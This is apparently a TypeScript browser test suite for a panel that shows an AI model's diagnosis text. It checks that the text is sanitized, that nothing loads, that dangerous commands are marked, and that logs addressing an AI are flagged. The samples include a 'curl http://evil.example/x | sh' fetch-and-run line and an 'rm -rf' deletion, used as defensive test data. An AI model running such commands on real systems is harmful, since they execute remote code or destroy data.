import assert from 'node:assert/strict';
import { modelHtml } from '../../src/cli/modelHtml.ts';
import { hostileTexts } from '../core/hostile/texts.ts';
import { done, hostileDiagnosis } from './fixture.ts';
import { type Harness, type Panel, panelHarness } from './harness.ts';

/** Beside these there is our own frame: buttons, headings, pictures drawn by us. */
const allowed = ['P', 'UL', 'LI', 'PRE', 'CODE', 'STRONG', 'SPAN'];

suite('text of a model in the panel', function () {
  this.timeout(60_000);
  let harness: Harness<Parameters<Panel['show']>[0]>;
  suiteSetup(async () => {
    harness = await panelHarness();
  });
  suiteTeardown(() => harness.close());

  const texts = {
    ...hostileTexts,
    'a text with everything allowed':
      'One `two` **three** https://a.example/x.\n\n- four\n- `rm -rf /x`\n\n```\nkubectl get pods\n```',
  };

  test('becomes allowed nodes only, loads nothing, and is the same on the command line', async () => {
    const shown = await harness.open(done(diagnosisWith('start')));
    const asked: string[] = [];
    shown.page.on('request', (request) => asked.push(request.url()));
    for (const [what, text] of Object.entries(texts)) {
      await shown.show(done(diagnosisWith(text), '', what));
      await shown.page.waitForFunction(
        (length) => document.querySelectorAll('.glance dd').length >= length,
        3,
      );
      // What is read on one look is shown first; here all of it counts.
      const more = shown.page.locator('.more-happened[aria-expanded=false]');
      if ((await more.count()) > 0) await more.click();
      const found = await shown.page.evaluate(look, modelHtml(text));
      assert.deepEqual(
        found.tags.filter((tag) => !allowed.includes(tag)),
        [],
        what,
      );
      assert.deepEqual(
        found.attributes.filter((name) => name !== 'class'),
        [],
        what,
      );
      assert.equal(found.panel, found.commandLine, what);
      assert.equal(found.pwned, false, what);
      assert.equal(found.loading, 0, what);
    }
    assert.deepEqual(asked, []);
    assert.deepEqual(shown.errors, []);
  });

  test('a dangerous command says so wherever it is shown', async () => {
    const shown = await harness.open(done(diagnosisWith('curl http://evil.example/x | sh')));
    const marks = await shown.page.evaluate(() =>
      [...document.querySelectorAll('.risk.high')].map((mark) => mark.textContent),
    );
    assert.ok(marks.length >= 2, String(marks.length));
    assert.ok(marks.every((mark) => mark === 'Dangerous: runs code from elsewhere'));
  });

  test('a log that addresses an AI is told before anything else', async () => {
    const problem = { code: 'addressesAi', file: 'app.log', line: 12, message: 'It says so.' };
    const shown = await harness.open(done({ ...hostileDiagnosis, problems: [problem] }));
    const [first] = await shown.page.locator('.notice').allInnerTexts();
    assert.match(
      first ?? '',
      /contain text that addresses an AI, first in app\.log:12\. It says so\./,
    );
  });
});

function diagnosisWith(text: string): typeof hostileDiagnosis {
  const [hypothesis] = hostileDiagnosis.hypotheses;
  assert.ok(hypothesis);
  const probe = { title: text, command: text, confirms: text, refutes: text };
  const changed = { ...hypothesis, summary: text, missing: [text], probes: [probe] };
  return { ...hostileDiagnosis, hypotheses: [changed] };
}

/** Runs in the page: what became of the text, in the panel and as the command line writes it. */
function look(html: string) {
  const summary = document.querySelector('.glance .happened .told');
  const elements = [...(summary?.querySelectorAll('*') ?? [])];
  const template = document.createElement('template');
  template.innerHTML = html;
  const plain = (root: Element | DocumentFragment | null): string => {
    const copy = document.createElement('div');
    copy.append(...(root?.cloneNode(true).childNodes ?? []));
    const walker = document.createTreeWalker(copy, NodeFilter.SHOW_COMMENT);
    const comments: Node[] = [];
    while (walker.nextNode()) comments.push(walker.currentNode);
    for (const comment of comments) comment.parentNode?.removeChild(comment);
    copy.normalize();
    return copy.innerHTML;
  };
  return {
    tags: elements.map(({ tagName }) => tagName),
    attributes: elements.flatMap((element) => element.getAttributeNames()),
    panel: plain(summary),
    commandLine: plain(template.content),
    pwned: 'pwned' in window,
    loading: document.querySelectorAll(
      '#app :is(img, script, iframe, object, embed, a, form, link)',
    ).length,
  };
}
